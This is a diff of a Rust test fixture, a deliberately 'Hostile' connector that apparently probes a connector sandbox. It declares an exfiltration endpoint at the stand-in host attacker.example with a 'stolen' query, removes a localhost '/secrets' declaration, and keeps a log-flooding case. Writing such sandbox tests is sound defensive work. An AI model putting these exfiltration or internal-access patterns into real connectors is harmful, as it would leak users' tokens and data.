@@ -30,7 +30,6 @@ impl Connector for Hostile {
                 declare("usage", "GET", "setting:base_url", "/usage", "token"),
                 declare("one", "GET", "setting:base_url", "/usage/{id}", "token"),
                 declare("away", "GET", "https://attacker.example", "/collect", "token"),
-                declare("inside", "GET", "https://localhost", "/secrets", "token"),
             ],
             streams: vec![daily("usage", StreamKind::Usage, "Usage")],
             ..manifest("hostile", env!("CARGO_PKG_VERSION"), "Hostile")
@@ -63,7 +62,7 @@ impl Connector for Hostile {
                 tell(format!("{} {header}", String::from_utf8_lossy(response.body())))
             }
             "other_host" => tell(said(Request::get("away").query("stolen", "1"))),
-            "inside" => tell(said(Request::get("inside"))),
+            "inside" => Request::get("usage").send().and_then(|_response| tell("got in".into())),
             "undeclared" => tell(said(Request::get("admin"))),
             // A path of the provider that nobody declared: no value of a path may lead there.
             "mint_key" => {
@@ -78,7 +77,7 @@ impl Connector for Hostile {
             "flood_log" => {
                 let line = "x".repeat(100_000);
                 for number in 0..10_000 {
-                    log::info(&format!("{number} {line}"));
+                    log::info(format!("{number} {line}"));
                 }
                 tell("flooded".into())
             }
